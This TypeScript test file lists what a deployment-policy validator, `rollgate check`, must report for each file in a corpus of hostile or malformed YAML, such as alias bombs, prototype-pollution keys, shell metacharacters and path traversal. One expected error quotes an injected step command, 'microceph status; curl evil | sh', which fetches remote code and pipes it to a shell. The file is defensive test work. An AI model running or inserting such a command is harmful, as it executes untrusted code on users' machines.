// What each file of test/corpus/bad/ must get from `rollgate check`: a finding of a rule and code on a line (exit 1),
// or one sentence on stderr (exit 2). Findings are matched by their code (src/bad-input.ts), never by their words. manifests/ are judged as the head with the built-in packs; packs/ are named by a
// small valid head; bases/ are the base of examples/microcloud/head-pass.yaml.
import type { SchemaCode, YamlSyntaxCode } from '../../src/bad-input.js';
import type { RuleId } from '../../src/findings.js';

/** What a corpus file must get. */
export type Expectation =
  | { exit: 0 | 1; rule: RuleId; code: string; line: number; severity?: 'error' | 'warning' }
  | { exit: 2; stderr: RegExp };

const syntax = (line: number, code: YamlSyntaxCode): Expectation => ({
  exit: 1,
  rule: 'yaml/syntax',
  code,
  line,
});
const schema = (line: number, code: SchemaCode): Expectation => ({ exit: 1, rule: 'schema', code, line });
const brokenPack = (file: string, line: number, message: RegExp): Expectation => ({
  exit: 2,
  stderr: new RegExp(
    `^rollgate check: The policy pack test/corpus/bad/packs/${file}\\.yaml is broken at line ${line}, column \\d+: ${message.source}\\n$`,
  ),
});
/** Every file under test/corpus/bad/, by its path there, with what it must get. */
export const EXPECTATIONS: Record<string, Expectation> = {
  // YAML that does not parse, or parses into something dangerous.
  'manifests/syntax-unclosed-flow.yaml': syntax(8, 'BAD_INDENT'),
  'manifests/syntax-bad-indent.yaml': syntax(7, 'MISSING_CHAR'),
  'manifests/syntax-tab-indent.yaml': syntax(7, 'TAB_AS_INDENT'),
  'manifests/syntax-unterminated-quote.yaml': syntax(13, 'MISSING_CHAR'),
  'manifests/syntax-nested-compact.yaml': syntax(4, 'BLOCK_AS_IMPLICIT_KEY'),
  'manifests/syntax-multiple-documents.yaml': syntax(13, 'MULTIPLE_DOCS'),
  'manifests/syntax-yaml-1-1.yaml': syntax(1, 'YAML_1_1'),
  'manifests/alias-bomb.yaml': syntax(1, 'ALIAS_BOMB'),
  'manifests/alias-undefined.yaml': syntax(7, 'ALIAS_BEFORE_ANCHOR'),
  'manifests/deep-flow-nesting.yaml': syntax(3, 'TOO_DEEP'),
  'manifests/deep-block-nesting.yaml': syntax(66, 'TOO_DEEP'),
  'manifests/duplicate-key-top.yaml': syntax(4, 'DUPLICATE_KEY'),
  'manifests/duplicate-key-flow.yaml': syntax(10, 'DUPLICATE_KEY'),
  'manifests/binary-png.yaml': syntax(3, 'NUL_BYTE'),
  'manifests/utf16.yaml': syntax(1, 'UTF16'),
  'manifests/binary-no-nul.yaml': syntax(1, 'NOT_UTF8'),
  'manifests/latin1.yaml': syntax(1, 'NOT_UTF8'),
  'manifests/empty.yaml': schema(1, 'EMPTY_FILE'),
  'manifests/only-comments.yaml': schema(1, 'EMPTY_FILE'),
  'manifests/bare-scalar.yaml': schema(1, 'type'),
  'manifests/list-not-mapping.yaml': schema(1, 'type'),
  // Keys that mean something to JavaScript.
  'manifests/proto-top-level.yaml': schema(5, 'additionalProperties'),
  'manifests/proto-component.yaml': schema(12, 'propertyNames'),
  'manifests/proto-in-state.yaml': schema(9, 'additionalProperties'),
  'manifests/constructor-component.yaml': schema(9, 'UNKNOWN_COMPONENT'),
  'manifests/constructor-member-override.yaml': schema(9, 'INCOMPLETE_COMPONENT'),
  'manifests/constructor-top-level.yaml': schema(5, 'additionalProperties'),
  'manifests/prototype-member.yaml': schema(7, 'pattern'),
  // Numbers where strings belong, and other wrong types.
  'manifests/version-bare-number.yaml': schema(12, 'NUMBER_FOR_STRING'),
  'manifests/name-number.yaml': schema(6, 'NUMBER_FOR_STRING'),
  'manifests/revision-string.yaml': schema(9, 'type'),
  'manifests/revision-negative.yaml': schema(9, 'minimum'),
  'manifests/revision-zero.yaml': schema(9, 'minimum'),
  'manifests/revision-fraction.yaml': schema(9, 'type'),
  'manifests/revision-too-large.yaml': schema(9, 'maximum'),
  'manifests/revision-infinity.yaml': schema(9, 'type'),
  'manifests/revision-nan.yaml': schema(9, 'type'),
  'manifests/revision-binary.yaml': schema(9, 'type'),
  'manifests/hold-yes.yaml': schema(9, 'type'),
  'manifests/hold-string.yaml': schema(10, 'type'),
  'manifests/clusters-mapping.yaml': schema(6, 'type'),
  'manifests/clusters-null-item.yaml': schema(6, 'type'),
  'manifests/members-empty.yaml': schema(7, 'minItems'),
  'manifests/members-set-tag.yaml': schema(7, 'type'),
  'manifests/component-key-list.yaml': schema(9, 'propertyNames'),
  'manifests/component-key-null.yaml': schema(9, 'EMPTY_NAME'),
  'manifests/component-incomplete.yaml': schema(11, 'INCOMPLETE_COMPONENT'),
  'manifests/unknown-field.yaml': schema(8, 'additionalProperties'),
  'manifests/api-version-wrong.yaml': schema(2, 'const'),
  'manifests/kind-wrong.yaml': schema(3, 'const'),
  // Names that carry shell, markdown, HTML, mentions, look-alikes or control characters.
  'manifests/name-shell-semicolon.yaml': schema(6, 'pattern'),
  'manifests/member-command-substitution.yaml': schema(7, 'pattern'),
  'manifests/member-backticks.yaml': schema(7, 'pattern'),
  'manifests/component-pipe.yaml': schema(12, 'propertyNames'),
  'manifests/proxy-newline.yaml': schema(7, 'pattern'),
  'manifests/runner-label-shell.yaml': schema(7, 'pattern'),
  'manifests/name-markdown.yaml': schema(6, 'pattern'),
  'manifests/member-html.yaml': schema(7, 'pattern'),
  'manifests/name-mention.yaml': schema(6, 'pattern'),
  'manifests/name-homoglyph.yaml': schema(6, 'pattern'),
  'manifests/name-zero-width.yaml': schema(7, 'pattern'),
  'manifests/name-too-long.yaml': schema(6, 'pattern'),
  'manifests/terminal-escapes.yaml': schema(9, 'type'),
  'manifests/pack-name-shell.yaml': schema(4, 'pattern'),
  // Dates, waves and names that the schema alone cannot check.
  'manifests/freeze-bad-date.yaml': schema(6, 'format'),
  'manifests/freeze-date-words.yaml': schema(6, 'format'),
  'manifests/freeze-reversed.yaml': schema(6, 'FREEZE_ENDS_BEFORE_START'),
  'manifests/wave-not-in-waves.yaml': schema(8, 'WAVE_UNKNOWN'),
  'manifests/wave-without-waves.yaml': schema(7, 'WAVE_WITHOUT_WAVES'),
  'manifests/waves-duplicate.yaml': schema(5, 'uniqueItems'),
  'manifests/duplicate-cluster.yaml': schema(13, 'DUPLICATE_CLUSTER'),
  'manifests/duplicate-member.yaml': schema(7, 'DUPLICATE_MEMBER'),
  // What the pack does not know or allow.
  'manifests/unknown-component.yaml': schema(12, 'UNKNOWN_COMPONENT'),
  'manifests/unknown-track.yaml': schema(9, 'UNREADABLE_VERSION'),
  'manifests/channel-no-risk.yaml': schema(9, 'pattern'),
  'manifests/channel-bad-risk.yaml': schema(9, 'pattern'),
  'manifests/channel-candidate.yaml': {
    exit: 1,
    rule: 'channel/risk',
    line: 11,
    code: 'riskNotAllowed',
  },
  'manifests/json-syntax.yaml': {
    exit: 1,
    rule: 'channel/risk',
    line: 1,
    code: 'riskNotAllowed',
  },
  'manifests/unknown-pack.yaml': schema(4, 'UNKNOWN_PACK'),
  'manifests/pack-path-traversal.yaml': schema(4, 'PACK_PATH_NOT_FOUND'),
  // Broken packs: the tool cannot judge with them, so exit 2 and one sentence.
  'packs/requires-cycle.yaml': brokenPack(
    'requires-cycle',
    35,
    /The components' `requires` form a cycle \(microceph -> microcloud -> microceph\); no upgrade order can satisfy it\./,
  ),
  'packs/requires-unknown.yaml': brokenPack(
    'requires-unknown',
    92,
    /`microcloud` requires `ceph`, which is not one of the pack's components\./,
  ),
  'packs/requires-later-in-order.yaml': brokenPack(
    'requires-later-in-order',
    91,
    /`microcloud` requires `lxd`, so `lxd` must come before it in `order`\./,
  ),
  'packs/step-needs-unknown.yaml': brokenPack(
    'step-needs-unknown',
    23,
    /Step `microcloud-status` needs `ceph`, which is not one of the pack's components\./,
  ),
  'packs/step-needs-bad-version.yaml': brokenPack(
    'step-needs-bad-version',
    23,
    /`3` is not a version the tracks scheme of `microcloud` knows\./,
  ),
  'packs/jump-limit-unknown-version.yaml': brokenPack(
    'jump-limit-unknown-version',
    31,
    /`tentacle` is not a version the tracks scheme of `microceph` knows\./,
  ),
  'packs/order-unknown.yaml': brokenPack(
    'order-unknown',
    13,
    /`order` names `kubelet`, which is not one of the pack's components\./,
  ),
  'packs/order-missing.yaml': brokenPack(
    'order-missing',
    13,
    /Component `microcloud` is missing from `order`; every component has a place in the upgrade order\./,
  ),
  'packs/placeholder-unknown.yaml': brokenPack(
    'placeholder-unknown',
    40,
    /Step `health` uses the placeholder \{secret\}; the known ones are .*/,
  ),
  'packs/severity-unknown.yaml': brokenPack(
    'severity-unknown',
    16,
    /`policy\/changed` at rules\.policy\/changed must be one of "error", "warning", "off"\./,
  ),
  'packs/rule-unknown.yaml': brokenPack(
    'rule-unknown',
    16,
    /`rules` at rules has an unknown field `nope\/rule`; .*/,
  ),
  'packs/syntax-error.yaml': brokenPack('syntax-error', 14, /The YAML does not parse: .*/),
  'packs/tracks-without-versions.yaml': brokenPack(
    'tracks-without-versions',
    27,
    /Component `microceph` uses the tracks scheme, which needs `versions`: its tracks in release order\./,
  ),
  'packs/eol-unknown-version.yaml': brokenPack(
    'eol-unknown-version',
    89,
    /`banana` is not a version the tracks scheme of `microcloud` knows\./,
  ),
  'packs/eol-bad-date.yaml': brokenPack(
    'eol-bad-date',
    89,
    /`date` at components\.microcloud\.eol\.0\.date must be a date \(YYYY-MM-DD\) or an RFC 3339 date-time\./,
  ),
  'packs/scheme-unknown.yaml': brokenPack(
    'scheme-unknown',
    27,
    /`scheme` at components\.microceph\.versioning\.scheme must be one of "semver", "tracks", "calver"\./,
  ),
  'packs/jump-negative.yaml': brokenPack(
    'jump-negative',
    30,
    /`max` at components\.microceph\.jump\.max must be at least 0\./,
  ),
  'packs/proto-component.yaml': brokenPack(
    'proto-component',
    24,
    /`components` at components has a name that is not allowed: __proto__\./,
  ),
  'packs/duplicate-key.yaml': brokenPack('duplicate-key', 8, /A key appears twice in one mapping .*/),
  'packs/alias-bomb.yaml': brokenPack('alias-bomb', 1, /The YAML's aliases expand past 10000 nodes, .*/),
  'packs/empty.yaml': brokenPack(
    'empty',
    1,
    /The policy pack is empty; it must be a mapping that starts with apiVersion: rollgate\/v1\./,
  ),
  'packs/kind-fleet.yaml': brokenPack('kind-fleet', 6, /`kind` at kind must be "PolicyPack"\./),
  'packs/step-run-string.yaml': brokenPack(
    'step-run-string',
    40,
    /`run` at components\.microceph\.rollout\.member\.3\.run must be an array, not the string microceph status; curl evil \| sh\./,
  ),
  'packs/binary.yaml': brokenPack('binary', 3, /The file holds binary data \(a NUL byte\); .*/),
  // A base that cannot be read: the head is judged, the comparing rules skipped, and a warning says so.
  'bases/syntax-error.yaml': {
    exit: 0,
    rule: 'schema',
    severity: 'warning',
    line: 1,
    code: 'BASE_UNREADABLE',
  },
  'bases/alias-bomb.yaml': {
    exit: 0,
    rule: 'schema',
    severity: 'warning',
    line: 1,
    code: 'BASE_UNREADABLE',
  },
  'bases/schema-error.yaml': {
    exit: 0,
    rule: 'schema',
    severity: 'warning',
    line: 1,
    code: 'BASE_UNREADABLE',
  },
};
